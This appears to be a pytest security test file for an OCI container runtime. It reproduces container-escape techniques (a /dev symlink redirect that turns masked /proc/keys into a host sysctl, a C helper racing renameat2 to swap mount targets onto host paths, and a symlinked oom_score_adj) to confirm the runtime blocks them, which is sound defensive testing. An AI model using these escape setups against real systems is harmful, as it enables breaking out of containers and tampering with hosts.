"""Mounts resolved through file descriptors (issue #10 items 3 and 4).

* A hostile image redirects /dev through ``/proc/self/cwd`` so that masking ``/proc/keys``
  with "/dev/null" binds a host sysctl there instead (the CVE-2025-31133 class): the masked
  path becomes a writable window onto ``/proc/sys``.
* A second container swaps a directory and a symlink to a host path in a shared volume while
  the runtime creates mounts below that directory (CVE-2021-30465): a mount target checked as
  a string and then used lands on the host path.

Both are real attempts: real containers, real mounts, a static C helper racing in a second
container.  The host keeps the proof: the sysctl's value, the host directory's contents and
the mount table the container's init had just before pivot_root (captured by a
``createRuntime`` hook, which every runtime runs at that moment).
"""

from __future__ import annotations

import json
import os
import shutil
import uuid
from pathlib import Path

import pytest

from oci_harness import Box, assert_nothing_left

# A global (not namespaced), harmless sysctl: the attack writes it through /proc/keys.
KNOB = Path("/proc/sys/fs/lease-break-time")


def _read_knob() -> str:
    return KNOB.read_text().strip()


@pytest.fixture
def knob_restored():
    """The sysctl's value before the test; put back afterwards whatever happened."""
    before = _read_knob()
    yield before
    if _read_knob() != before:
        KNOB.write_text(before + "\n")


@pytest.mark.runc_divergent
def test_masked_path_cannot_be_redirected_through_a_symlinked_dev(box, knob_restored):
    """Image: ``/dev -> /proc/self/cwd/devx`` and ``/devx/null -> /proc/sys/fs/lease-break-time``.
    Resolved as strings after pivot_root, "/dev/null" is the sysctl and masking /proc/keys
    binds it there, writable.  The runtime must mask with the real null device (or refuse)."""
    rootfs = box.rootfs
    shutil.rmtree(rootfs / "dev")
    (rootfs / "dev").symlink_to("/proc/self/cwd/devx")
    (rootfs / "devx").mkdir()
    (rootfs / "devx" / "null").symlink_to(KNOB)
    assert "/proc/keys" in box.config["linux"]["maskedPaths"]
    attempt = str(int(knob_restored) + 32)
    proc = box.run("sh", "-c", f"echo {attempt} > /proc/keys; echo keys:; cat /proc/keys")
    assert _read_knob() == knob_restored, "the container wrote a host sysctl through /proc/keys"
    if proc.returncode == 0:
        # masked for real: /proc/keys reads as /dev/null
        assert "keys:" in proc.stdout, (proc.stdout, proc.stderr)
        assert proc.stdout.split("keys:", 1)[1].strip() == "", "/proc/keys is not masked: " + proc.stdout
    else:
        assert "Traceback" not in proc.stderr, proc.stderr
        assert "/dev/null" in proc.stderr, proc.stderr
        assert_nothing_left(box)


def test_sysctl_is_not_written_through_a_mount_over_proc_sys(box, tmp_path):
    """The end state of the CVE-2025-52881 race: something is mounted over the /proc/sys file
    a sysctl is written to (here a host file bound there; in the attack, a bind racing in
    through a shared mount).  The runtime must write only to the procfs file itself, reached
    without crossing a mount: the host file stays untouched.  (runc 1.1.5 passes too: it
    refuses any mount into /proc outside a short list.)"""
    host_file = tmp_path / "host-file"
    host_file.write_text("untouched\n")
    box.add_mount("/proc/sys/kernel/domainname", str(host_file), options=["bind", "rw"])
    box.config["linux"]["sysctl"] = {"kernel.domainname": "written-by-the-runtime"}
    proc = box.run("true")
    assert host_file.read_text() == "untouched\n", "the sysctl was written to the file mounted over /proc/sys"
    assert proc.returncode != 0, proc.stdout + proc.stderr
    assert "Traceback" not in proc.stderr, proc.stderr
    assert "/proc/sys/kernel/domainname" in proc.stderr, proc.stderr
    assert_nothing_left(box)


# --- CVE-2021-30465: mount destinations swapped during create ------------------------------

SWAPPER = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
#include <sys/syscall.h>
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif
/* exchange two names for ever: a directory and a symlink to a host path (one process per
   CPU, so that one of them runs whenever the runtime does) */
int main(int argc, char **argv) {
    long cpus = sysconf(_SC_NPROCESSORS_ONLN);
    if (argc != 3) return 2;
    for (long i = 1; i < cpus; i++)
        if (fork() == 0) break;
    for (;;)
        syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
}
"""

#: creates tried; each with MOUNTS tmpfs mounts below the swapped directory.  Measured on
#: the old string resolver (2 busy CPUs): creating a missing mount point went to the host
#: within the first 0-9 tries (every run); a mount landed on the host directory in about 1 try
#: of 30 (first hits between try 0 and 128 over 20 runs; 3 runs of 40 tries missed it; the
#: count of mounts per create barely matters: the swapper runs only part of the time), hence
#: 200 tries there (a miss is then ~0.2% likely).
MKDIR_TRIES = 40
MOUNT_TRIES = 200
MOUNTS = 8
#: the tmpfs mounts' mode: finds them in a mount table
MARK = "mode=701"

HOOK = r"""s=$(cat)
pid=$(printf '%s' "$s" | sed -n 's/.*"pid": *\([0-9][0-9]*\).*/\1/p')
cat /proc/$pid/mountinfo > "$1"
"""


def _bundle(tmp_path: Path, busybox_rootfs: Path, name: str, base: dict) -> Path:
    bundle = tmp_path / name
    bundle.mkdir()
    shutil.copytree(busybox_rootfs, bundle / "rootfs", symlinks=True)
    (bundle / "config.json").write_text(json.dumps(base))
    return bundle


@pytest.fixture
def swapping_volume(runtime, busybox_bundle, busybox_rootfs, static_program, tmp_path):
    """A shared volume with ``d/`` and ``link -> <host dir>``, and a second container that
    exchanges the two names in a loop.  Yields (volume, host dir, an fd of the real ``d``);
    the swapper is killed and deleted afterwards."""
    volume = tmp_path / "volume"
    host_dir = tmp_path / "host-target"
    (volume / "d").mkdir(parents=True)
    host_dir.mkdir()
    (volume / "link").symlink_to(host_dir)
    swapper = static_program(SWAPPER, "swapper")
    config = json.loads((busybox_bundle / "config.json").read_text())
    bundle = _bundle(tmp_path, busybox_rootfs, "attacker", config)
    shutil.copy(swapper, bundle / "rootfs" / "swapper")
    attacker = Box(runtime, bundle, "swap-" + uuid.uuid4().hex[:10])
    attacker.add_mount("/vol", str(volume), options=["rbind", "rw"])
    attacker.args("/swapper", "/vol/d", "/vol/link")
    directory = os.open(volume / "d", os.O_RDONLY | os.O_DIRECTORY)
    try:
        attacker.create()
        attacker.start()
        yield volume, host_dir, directory
    finally:
        runtime("delete", "--force", attacker.id)
        os.close(directory)


def _race(runtime, box, swapping_volume, tmp_path: Path, precreate: bool, tries: int) -> tuple[int, list[str]]:
    """Create ``box`` ``tries`` times with MOUNTS tmpfs mounts at fresh paths below the swapped
    ``/vol/d``; ``precreate``: the mount points exist already, in the directory and in the
    host directory the symlink points to (so that only the mount itself races).  Returns
    (successful creates, escapes found) and stops at the first try that escaped."""
    volume, host_dir, directory = swapping_volume
    rootfs = os.path.realpath(box.rootfs)
    box.add_mount("/vol", str(volume), options=["rbind", "rw"])
    base_mounts = list(box.config["mounts"])
    box.args("true")
    created = 0
    escapes: list[str] = []
    for attempt in range(tries):
        names = [f"t{attempt}m{i}" for i in range(MOUNTS)]
        if precreate:
            for name in names:
                os.mkdir(name, dir_fd=directory)
                (host_dir / name).mkdir()
        host_before = sorted(os.listdir(host_dir))
        captured = tmp_path / f"mountinfo-{attempt}"
        box.config["mounts"] = base_mounts + [
            {"destination": f"/vol/d/{name}", "type": "tmpfs", "source": "tmpfs",
             "options": ["nosuid", "nodev", MARK]} for name in names]
        box.config["hooks"] = {"createRuntime": [
            {"path": "/bin/sh", "args": ["sh", "-c", HOOK, "capture", str(captured)]}]}
        proc = box.create(check=False)
        if proc.returncode == 0:
            created += 1
        else:
            assert "Traceback" not in proc.stderr, proc.stderr
        runtime("delete", "--force", box.id)
        escapes += [f"try {attempt}: created {name} in the host directory {host_dir}"
                    for name in sorted(set(os.listdir(host_dir)) - set(host_before))]
        if captured.exists():
            for line in captured.read_text().splitlines():
                mount_point = line.split(" - ")[0].split()[4].replace("\\040", " ")
                if MARK in line and not mount_point.startswith(rootfs + "/"):
                    escapes.append(f"try {attempt}: a tmpfs landed on {mount_point}, outside the rootfs {rootfs}")
        for line in Path("/proc/self/mountinfo").read_text().splitlines():
            if line.split()[4].startswith(str(host_dir)):
                escapes.append(f"try {attempt}: the host has a mount at {line.split()[4]}")
        if escapes:
            break
    return created, escapes


def test_mount_destination_swapped_during_create_lands_in_rootfs(runtime, box, swapping_volume, tmp_path):
    """CVE-2021-30465: while another container exchanges ``/vol/d`` with a symlink to a host
    directory, create a container with tmpfs mounts on existing directories below ``/vol/d``,
    again and again: no mount may land outside the rootfs (the host directory has the same
    names, so a mount that follows the swapped-in symlink succeeds there)."""
    created, escapes = _race(runtime, box, swapping_volume, tmp_path, precreate=True, tries=MOUNT_TRIES)
    assert escapes == [], "\n".join(escapes)
    assert created > 0, "every create failed: the defence must not refuse ordinary mounts"
    assert_nothing_left(box)


@pytest.mark.runc_divergent  # CVE-2024-45310, fixed in runc 1.1.14
def test_missing_mount_targets_are_not_created_through_a_swapped_symlink(runtime, box, swapping_volume, tmp_path):
    """The same race with mount points that do not exist yet: creating them (mkdir) must happen
    relative to the directory the resolution opened, never through a path the other container
    can swap: nothing may appear in the host directory, and no mount may land outside."""
    created, escapes = _race(runtime, box, swapping_volume, tmp_path, precreate=False, tries=MKDIR_TRIES)
    assert escapes == [], "\n".join(escapes)
    assert created > 0, "every create failed: the defence must not refuse ordinary mounts"
    assert_nothing_left(box)


@pytest.mark.runc_divergent  # runc 1.1.5 writes through the image's link
def test_oom_score_adj_is_not_written_through_the_images_proc(box):
    """A config without a proc mount and an image whose /proc/self/oom_score_adj is a link: the
    runtime's write of ``process.oomScoreAdj`` must reach a procfs or nothing, never the link's
    target (CVE-2025-52881's class: writes the runtime makes to /proc)."""
    box.config["mounts"] = [m for m in box.config["mounts"] if m["destination"] != "/proc"]
    box.config["linux"]["maskedPaths"] = []
    box.config["linux"]["readonlyPaths"] = []
    box.config["process"]["oomScoreAdj"] = 100
    box.config["root"]["readonly"] = False
    victim = box.rootfs / "etc" / "victim"
    victim.write_text("intact\n")
    (box.rootfs / "proc" / "self").mkdir(parents=True)
    (box.rootfs / "proc" / "self" / "oom_score_adj").symlink_to("/etc/victim")
    done = box.run("true")
    assert victim.read_text() == "intact\n", "the runtime wrote oomScoreAdj through the image's link"
    if done.returncode != 0:
        assert "/proc" in done.stderr and "Traceback" not in done.stderr, done.stderr
